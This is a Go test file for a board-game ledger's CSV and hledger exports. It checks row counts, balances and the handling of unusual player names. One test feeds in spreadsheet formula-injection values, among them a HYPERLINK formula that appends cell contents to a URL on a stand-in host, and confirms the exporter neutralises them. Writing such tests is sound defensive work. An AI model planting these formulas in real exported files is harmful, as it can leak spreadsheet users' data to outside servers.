package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/dragon-tools/dragon/ledger"
	"github.com/dragon-tools/dragon/ledger/books"
	"github.com/dragon-tools/dragon/ledger/ledgertest"
)

func TestMain(m *testing.M) {
	books.Register(books.Magic, books.Rulebook{Versions: []string{"C"}, DefaultVersion: "C"})
	os.Exit(m.Run())
}

// ledgers are the ledgers exported in the tests: the README's evening
// (a scored win, a tie, a void), a Dancing Dragons match of totals with
// money moved too, a table whose names a journal must be careful with,
// and one whose players were renamed and seated again.
func ledgers(t *testing.T) map[string]*ledger.Ledger {
	t.Helper()
	thursday, err := os.ReadFile("../report/testdata/thursday.yaml")
	if err != nil {
		t.Fatal(err)
	}
	texts := map[string]string{
		"thursday.yaml": string(thursday),
		"match.yaml": `version: 1
game: dominoes
players: [Ann, Bo, Cy]
hands:
  - {at: 2026-03-14T20:05:00Z, kind: win, scores: {Ann: 12, Bo: 0, Cy: 7}}
  - {at: 2026-03-14T20:15:00Z, kind: win, scores: {Ann: 3, Bo: 9, Cy: 0}, note: "Cy went out, \"clean\"; then
      a new line, and a comma"}
  - {at: 2026-03-14T20:20:00Z, kind: adjustment, transfers: {Ann: -5, Cy: +5}, note: a side bet}
`,
		"names.yaml": `version: 1
game: magic
players: [Bo  Li, "A;B", Zoë, 李]
rules: {version: C, stakes: 1}
money: {start: 80, bills: [1, 5, 10]}
hands:
  - {at: 2026-03-14T20:05:00+01:00, kind: win, inputs: {winner: "A;B"}, transfers: {Bo  Li: -3, "A;B": +9, Zoë: -3, 李: -3}}
  - {at: 2026-03-14T20:06:00+01:00, kind: void}
  - {at: 2026-03-14T23:59:00-05:00, kind: penalty, inputs: {offender: 李}, transfers: {Bo  Li: +2, "A;B": +2, Zoë: +2, 李: -6}}
`,
		// Two players' names swapped by three renames, new seats, and
		// records before and after: each player is exported under his
		// last name from the first record on.
		"renamed.yaml": ledgertest.Renamed,
	}
	out := map[string]*ledger.Ledger{}
	for name, text := range texts {
		l, ps := ledger.Parse(name, []byte(text))
		if errs := ps.Errors(); len(errs) > 0 || l == nil {
			t.Fatalf("%s: %v", name, ps)
		}
		out[name] = l
	}
	return out
}

// TestCSV: a row a player a record, read back by a CSV reader: each
// player's amounts add up to his money won or lost, his last balance is
// the ledger's, and a note comes back as written.
func TestCSV(t *testing.T) {
	for name, l := range ledgers(t) {
		var buf bytes.Buffer
		if err := CSV(&buf, l); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		h, st := &l.Header, l.State()
		if want := 1 + len(l.Hands)*len(h.Players); len(rows) != want {
			t.Fatalf("%s: %d rows, want %d", name, len(rows), want)
		}
		if rows[0][0] != "time" || rows[0][7] != "note" || (len(rows[0]) == 10) != h.Game.Totals() {
			t.Errorf("%s: columns %v", name, rows[0])
		}
		sum, last, total := map[string]int{}, map[string]string{}, map[string]string{}
		for i, row := range rows[1:] {
			r := l.Hands[i/len(h.Players)]
			if row[1] != strconv.Itoa(r.Number) || row[3] != string(r.Kind) || row[7] != r.Note || row[2] != string(h.Game) {
				t.Errorf("%s: row %d is %q", name, i+1, row)
			}
			v, _ := strconv.Atoi(row[5])
			sum[row[4]] += v
			last[row[4]] = row[6]
			if len(row) == 10 {
				total[row[4]] = row[9]
			}
		}
		for _, p := range st.Header.Players {
			if sum[p] != st.Balances[p]-h.Money.Start || last[p] != strconv.Itoa(st.Balances[p]) {
				t.Errorf("%s: %s's amounts add up to %d and end at %s; his money is %d", name, p, sum[p], last[p], st.Balances[p])
			}
			if h.Game.Totals() && total[p] != strconv.Itoa(st.Totals[p]) {
				t.Errorf("%s: %s's total %s, want %d", name, p, total[p], st.Totals[p])
			}
		}
	}
}

// TestHledgerBalances: the real hledger reads the journal, and gives
// each player's account the money (and each total) the ledger gives him.
func TestHledgerBalances(t *testing.T) {
	bin, err := exec.LookPath("hledger")
	if err != nil {
		t.Skip("hledger is not installed, so the journal cannot be read by it (apt-get install hledger; .ci/run installs it)")
	}
	for name, l := range ledgers(t) {
		var buf bytes.Buffer
		if err := Hledger(&buf, l); err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(t.TempDir(), name+".journal")
		if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(bin, "-f", file, "balance", "--flat", "--empty", "-O", "csv").CombinedOutput()
		if err != nil {
			t.Fatalf("%s: hledger: %v\n%s\n%s", name, err, out, buf.String())
		}
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v\n%s", name, err, out)
		}
		got := map[string]string{}
		for _, row := range rows {
			got[row[0]] = row[1]
		}
		st := l.State()
		accounts, _ := accountsOf(st.Header.Players)
		for _, p := range st.Header.Players {
			want := fmt.Sprintf("%d %s", st.Balances[p], money)
			if st.Balances[p] == 0 {
				want = "0"
			}
			// An account nothing was posted to is not listed: nothing.
			if g := got["players:"+accounts[p]]; g != want && !(want == "0" && g == "") {
				t.Errorf("%s: hledger gives %s %q, the ledger %q\n%s", name, p, g, want, out)
			}
			if l.Header.Game.Totals() {
				if g, want := got["totals:"+accounts[p]], fmt.Sprintf("%d %s", st.Totals[p], points); g != want && !(st.Totals[p] == 0 && g == "0") {
					t.Errorf("%s: hledger gives %s's total %q, the ledger %q", name, p, g, want)
				}
			}
		}
	}
}

// TestHledgerNamesThatWouldMerge: two names a journal would make one
// account never reach it: the ledger refuses them.
func TestHledgerNamesThatWouldMerge(t *testing.T) {
	_, ps := ledger.Parse("twins.yaml", []byte("version: 1\ngame: mac\nplayers: [Bo Li, Bo  Li]\nhands: []\n"))
	if errs := ps.Errors(); len(errs) != 1 || !strings.Contains(errs[0].Msg, "Bo  Li looks like Bo Li") {
		t.Errorf("twins.yaml: %v", ps)
	}
}

// TestCSVFormulasAreText: a name or a note that a spreadsheet would take
// for a formula (= + - @, a leading tab or carriage return) is written
// after an apostrophe, as text; the amounts the export writes, signed,
// stay numbers.
func TestCSVFormulasAreText(t *testing.T) {
	l, ps := ledger.Parse("formulas.yaml", []byte(`version: 1
game: magic
players: [+1, -1, "@SUM(A1)", Ann]
rules: {version: C, stakes: 1}
money: {start: 80, bills: [1, 5, 10]}
hands:
  - {at: 2026-03-14T20:05:00Z, kind: adjustment, transfers: {+1: +6, -1: -6}, note: '=HYPERLINK("http://example.com/?"&A1,"click")'}
  - {at: 2026-03-14T20:06:00Z, kind: adjustment, transfers: {Ann: +1, -1: -1}, note: "\t=1+1"}
  - {at: 2026-03-14T20:07:00Z, kind: adjustment, transfers: {Ann: +1, -1: -1}, note: "\r=1+1"}
  - {at: 2026-03-14T20:08:00Z, kind: adjustment, transfers: {Ann: +1, -1: -1}, note: "-6"}
`))
	if len(ps.Errors()) > 0 {
		t.Fatal(ps)
	}
	var buf bytes.Buffer
	if err := CSV(&buf, l); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if i == 4 || i == 7 {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("column %s: %q would be a formula", rows[0][i], cell)
				}
				continue
			}
			if i == 5 || i == 6 {
				if _, err := strconv.Atoi(cell); err != nil {
					t.Errorf("column %s: %q is not a number", rows[0][i], cell)
				}
			}
		}
	}
	if got := rows[1][4] + " " + rows[2][4] + " " + rows[3][4] + " " + rows[1][7]; got != `'+1 '-1 '@SUM(A1) '=HYPERLINK("http://example.com/?"&A1,"click")` {
		t.Errorf("cells %s", got)
	}
	if got := rows[2][5]; got != "-6" {
		t.Errorf("-1's amount %q, want -6", got)
	}
}

// TestTextCellBehindSpaces: a formula behind spaces, a line break, a
// character that shows nothing or in full-width letters is text too; a
// cell that is no formula is written as it is.
func TestTextCellBehindSpaces(t *testing.T) {
	for _, s := range []string{" =1+1", "\u00a0=1+1", "\u200b=1+1", "\n=1+1", "\uff1d1+1", "  @SUM(A1)", "=1", "\t1"} {
		if got := textCell(s); got != "'"+s {
			t.Errorf("textCell(%q) = %q, want it after an apostrophe", s, got)
		}
	}
	for _, s := range []string{"Ann", "paid 6", " 6 each", "", "Zoé"} {
		if got := textCell(s); got != s {
			t.Errorf("textCell(%q) = %q, want it as it is", s, got)
		}
	}
}
